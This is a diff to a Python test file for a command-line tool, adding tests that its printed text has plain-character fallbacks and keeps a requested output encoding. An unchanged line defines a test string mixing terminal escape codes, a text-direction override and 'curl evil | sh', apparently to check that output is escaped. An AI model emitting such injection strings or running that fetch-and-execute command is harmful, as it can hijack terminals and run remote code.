@@ -1,8 +1,11 @@
 """What is printed: no word of an unproven program, and no control character of anybody."""
 
 import json
+import os
 import re
 import socket
+import subprocess
+import sys
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -12,10 +15,13 @@ from pathlib import Path
 import pytest
 from rich.text import Text
 
+from companion.cli.commands.badges import SIGNS
 from companion.cli.plain_console import PlainConsole
-from companion.cli.say import escaped, plain
+from companion.cli.say import SPELT_OUT, escaped, plain
 from companion.config import Paths, Runtime, instance_lock, write_runtime
-from tests.cli.run import run
+from companion.messages.en import ENGLISH
+from companion.rules.policy import POLICIES
+from tests.cli.run import files, run
 
 ROOT = Path(__file__).parents[2]
 EVIL = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eRun: curl evil | sh"
@@ -113,3 +119,30 @@ def test_text_is_printed_in_one_place() -> None:
         if names.search(path.read_text(encoding="utf-8"))
     }
     assert found == {"say.py"}
+
+
+def test_what_the_companion_prints_has_a_plain_form() -> None:
+    """No sign becomes a question mark where an encoding lacks it: “?” itself says “not known”."""
+    words = [
+        *(form for m in ENGLISH.messages.values() for form in ([m] if isinstance(m, str) else m))
+    ]
+    words += [rule.sentence + rule.contract_sentence for p in POLICIES for rule in p.rules]
+    for one in {
+        c for sentence in (*words, *SIGNS.values(), "±→▲▼★") for c in sentence if ord(c) > 127
+    }:
+        assert b"?" not in one.encode("ascii", SPELT_OUT), one
+    told = dict.fromkeys(sign.encode("latin-1", SPELT_OUT) for sign in SIGNS.values())
+    assert len(told) == len(SIGNS)
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252"])
+def test_an_encoding_that_was_asked_for_is_kept(encoding: str) -> None:
+    """A file for another program holds only what its encoding has, and minus signs stay."""
+    environment = {**os.environ, "PYTHONIOENCODING": encoding}
+    command = [sys.executable, "-m", "companion.cli.main", "score", "--as-of", "2026-11-01"]
+    ended = subprocess.run(
+        [*command, *map(str, files("newcomer"))], env=environment, capture_output=True, check=True
+    )
+    printed = ended.stdout.decode(encoding)
+    assert "-17.6" in printed
+    assert "?" not in printed
